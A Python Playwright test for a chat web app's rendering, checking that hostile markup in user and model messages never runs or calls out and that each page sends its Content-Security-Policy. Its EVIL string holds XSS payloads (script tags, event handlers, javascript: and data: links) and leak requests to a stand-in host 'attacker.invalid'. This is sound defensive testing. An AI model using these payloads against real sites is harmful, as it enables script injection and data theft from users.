"""Untrusted markup in the whole app (app.py in a subprocess, headless Chromium): a user's message and a model's answer
full of script, event handlers, ``javascript:`` and ``data:`` links, raw HTML and SVG stay inert while the answer
streams, after it ends and after a reload: no dialog opens, no script runs, no request leaves for another origin; and
every page carries the Content-Security-Policy."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import expect

from chat.ui.csp import POLICY

from .browser import chromium, free_port, serve
from .fake_upstream import FakeUpstream, Script

pytestmark = pytest.mark.browser

ATTACKER = "attacker.invalid"
EVIL = (
    "<script>window.__xss=1;alert(1)</script>\n\n"
    f'<img src="http://{ATTACKER}/img.png" onerror="window.__xss=2">\n\n'
    "[click me](javascript:window.__xss=3) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n"
    '<svg onload="window.__xss=4"><script>alert(5)</script></svg>\n\n'
    f"![pixel](http://{ATTACKER}/pixel.png?leak=secret) ![js](javascript:alert(6))\n\n"
    '<a href="javascript:alert(7)">raw link</a> <iframe src="javascript:alert(8)"></iframe>\n\n'
    f'<form action="http://{ATTACKER}/steal"><input name=x autofocus onfocus="window.__xss=9"></form>\n\n'
    f'<link rel="stylesheet" href="http://{ATTACKER}/x.css"><style>@import "http://{ATTACKER}/y.css";</style>\n\n'
    '<details open ontoggle="window.__xss=10">raw <b>html</b></details> the end'
)

#: Starts three canaries of the page's own: an image load that fails (CSP blocks it), a ``<details>`` opened, and a
#: frame rendered then a task run (when autofocus and ``onfocus`` would happen); ``window.__canaries`` counts down to 0
#: as each has fired. Any such event of an element in the answer, queued before them, has fired by then.
CANARIES = """() => {
    window.__canaries = 3;
    const fired = () => { window.__canaries -= 1; };
    const image = new Image();
    image.onerror = image.onload = fired;
    image.src = "http://canary.invalid/pixel.png";
    const details = document.createElement("details");
    details.ontoggle = () => { details.remove(); fired(); };
    document.body.append(details);
    details.open = true;
    requestAnimationFrame(() => setTimeout(fired));
}"""


def after_pending_events(page) -> None:
    """Return once the events the page's elements have queued (an image's ``error``, a ``toggle``) have fired."""
    page.evaluate(CANARIES)
    page.wait_for_function("() => window.__canaries === 0")


def test_evil_markup_from_a_user_and_a_model_stays_inert(tmp_path: Path, upstream: FakeUpstream) -> None:
    upstream.script = Script(pieces=[EVIL[i : i + 9] for i in range(0, len(EVIL), 9)], rate=60)  # ~2.5 s
    port = free_port()
    with serve(tmp_path, upstream, port), chromium() as browser:
        page = browser.new_page()
        dialogs: list[str] = []
        leaks: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: leaks.append(request.url) if ATTACKER in request.url else None)
        response = page.goto(f"http://127.0.0.1:{port}/")
        assert response is not None and response.headers["content-security-policy"] == POLICY
        composer = page.get_by_placeholder("Message Parley")
        composer.fill(EVIL)
        composer.press("Enter")
        page.wait_for_url("**/c/1")
        answer = page.locator(".parley-message-body").last

        def inert(*, finished: bool) -> None:
            expect(page.locator(".parley-user-message")).to_have_text(EVIL)  # the user's text, as text
            if finished:
                expect(answer).to_contain_text("the end")
                expect(answer).to_contain_text("<script>window.__xss=1;alert(1)</script>")  # shown, not run
            after_pending_events(page)  # a failed image load has fired onerror, a toggle event has fired
            assert page.evaluate("typeof window.__xss") == "undefined"
            assert not dialogs, dialogs
            assert not leaks, leaks
            for tag in ("script", "img", "iframe", "form", "input", "link", "style", "details", "svg:not(button svg)"):
                assert answer.locator(tag).count() == 0, tag
            hrefs = answer.locator("a").evaluate_all('links => links.map(a => a.getAttribute("href") || "")')
            assert not [href for href in hrefs if href.lower().startswith(("javascript:", "data:", "vbscript:"))]

        expect(answer).to_contain_text("click me")  # streaming: part of the answer is there
        assert answer.get_attribute("aria-busy") == "true"
        inert(finished=False)
        expect(answer).to_have_attribute("aria-busy", "false", timeout=15_000)
        inert(finished=True)
        page.reload()
        answer = page.locator(".parley-message-body").last
        inert(finished=True)
        response = page.goto(f"http://127.0.0.1:{port}/c/1")
        assert response is not None and response.headers["content-security-policy"] == POLICY
